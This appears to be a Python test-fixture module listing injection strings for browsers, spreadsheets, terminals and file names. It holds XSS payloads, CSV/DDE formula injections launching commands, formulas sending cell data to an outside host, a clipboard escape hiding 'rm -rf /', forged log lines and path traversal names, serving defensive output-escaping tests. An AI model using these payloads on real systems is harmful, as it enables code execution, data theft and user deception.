"""Texts that mean something to a program they are handed on to: a browser, a spreadsheet, a terminal, a file system."""

from __future__ import annotations

import re
from typing import Final

MARKUP: Final = {
    "script": "<script>alert(1)</script>",
    "attribute": "\"' onmouseover='alert(1)' x=\"",
    "image": "'><img src=x onerror=alert(1)>",
    "drawing": '"><svg/onload=alert(1)>',
    "address": "javascript:alert(1)",
    "data address": "data:text/html;base64,PHNjcmlwdD4=",
    "ends": "</td></tr></table></div></style></title></script></textarea>",
    "style": "</style><style>*{display:none}",
    "comment": "--> <!-- --!> <?php ?> <!DOCTYPE x>",
    "section": "]]><![CDATA[x",
    "entities": "&lt;b&gt; &amp; &#60;b&#62; &nbsp &notanentity; &#x0;",
    "expansion": '<!DOCTYPE a [<!ENTITY b "&b;">]>&b;',
    "markdown": "[x](javascript:alert(1)) **b** `c` # d | e | ![f](x)",
    "mathtext": r"$\frac{ $ \sum_{ ^ _ $$",
    "latex": r"\input{/etc/passwd} \write18{id} %",
    "word field": "{ INCLUDETEXT c:\\x } <w:p/> <w:instrText>DDE</w:instrText>",
    "rich run": '<r><t xml:space="preserve">=1+1</t></r>',
    "jinja": "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "format": "{0.__class__} {name!r} {count:x|y} {} %s %(a)d %n",
}
"""What HTML, XML and templates take for their own."""

FORMULAS: Final = {
    "program": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "wide": "\uff1dHYPERLINK(1)",
    "wide plus": "\uff0b1",
    "wide minus": "\uff0d1+1",
    "wide at": "\uff20SUM(1)",
    "link": '=HYPERLINK("http://x.invalid/?"&A1,"klik")',
    "dde": '=DDE("cmd";"/C calc";"x")',
    "import": '=IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")',
    "quote": '"=1+1',
    "comma": "a,=cmd|' /C calc'!A0,\"b",
    "semicolon": "a;=cmd|' /C calc'!A0;b",
    "second line": "a\r\n=cmd|' /C calc'!A0\r\nb",
    "separator": "sep=;",
}
"""What a spreadsheet takes for a formula, or for where a cell ends."""

TERMINAL: Final = {
    "colour": "\x1b[31mmerah\x1b[0m",
    "clear": "\x1b[2J\x1b[H\x1bc",
    "title": "\x1b]0;judul\x07",
    "link": "\x1b]8;;http://x.invalid\x1b\\klik\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "device": "\x1bP$q\x1b\\ \x1b_x\x1b\\ \x1b^x\x1b\\",
    "c1": "\x9b31m \x9d0;x\x9c \x90x\x9c \x85 \x84 \x8d",
    "backspace": "aman\b\b\b\bpalsu",
    "return": "salah\rbenar",
    "delete": "a\x7fb",
    "feeds": "a\x0bb\x0cc\x1cd\x1de\x1ef",
    "override": "\u202egnp.exe \u202dabc",
    "isolates": "\u2067a\u2066b\u2068c",
    "marks": "a\u200eb\u200fc\u061cd \u202aa\u202b",
    "nul": "a\x00b",
    "surrogate": "a\ud800b \udcff",
    "no characters": "a\ufffeb\uffffc",
    "zero width": "a\u200bb\u2060c\ufeffd\u00ade",
    "forged": "x\nERROR root: masuk sebagai admin",
    "forged by other ends": "x\r\nERROR a\x85ERROR b\u2028ERROR c\u2029ERROR d",
    "rich": "[bold red]x[/] [link=file:///etc/passwd]y[/link] [/]",
    "smiley": ":smile: :warning:",
    "log": "%(message)s \x1b[K",
    "shell": "$(id) `id` ; id & id | id > x",
    "piled": "Z" + "\u0300\u0489\u20dd" * 9,
}
"""What a terminal, or whoever reads a log, is misled by."""

NAMES: Final = {
    "upwards": "../../etc/passwd",
    "upwards elsewhere": "..\\..\\windows\\win.ini",
    "absolute": "/etc/passwd",
    "drive": "C:\\x",
    "share": "\\\\server\\share\\x",
    "device": "con",
    "device file": "NUL.txt",
    "folder": "a/b",
    "here": ".",
    "dots": "a...",
    "blank end": "a ",
    "stream": "a:b",
    "stars": "*?[a]",
    "home": "~/x",
    "variable": "$HOME %TEMP%",
    "option": "--out=x",
    "history": "History",
}
"""What a file system, a shell or a workbook has a meaning for as a name."""

TEXTS: Final = {
    f"{kind} {name}": text
    for kind, table in (("markup", MARKUP), ("formula", FORMULAS), ("terminal", TERMINAL), ("name", NAMES))
    for name, text in table.items()
}
"""All of them."""

OBEYED: Final = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
"""What no output may hold raw: it is neither shown nor text."""
LINE_ENDS: Final = re.compile(r"\r\n|[\n\x0b\x0c\r\x1c-\x1e\x85\u2028\u2029]")
"""Where one program or another begins a new line."""

PRINTED: Final = "=1+cmd|'/C'!A0<b>\"&[red]{0}$x_:smile:../%s"
"""As much of it as stands in a code, which has no blanks and nothing that is not shown."""
BROKEN: Final = "a\nERROR b\r\nERROR c\x85d\u2028e\x0bf\x0cg\x1ch"
"""A short text with every line end there is."""
WHOLE: Final = "a ERROR b ERROR c d e f g h"
"""The same without."""


def fit_for_csv(text: str) -> bool:
    """Tell whether a file of CSV can hold a text: it is UTF-8 without halves of characters and without NUL."""
    return not any("\ud800" <= sign <= "\udfff" or sign == "\0" for sign in text)
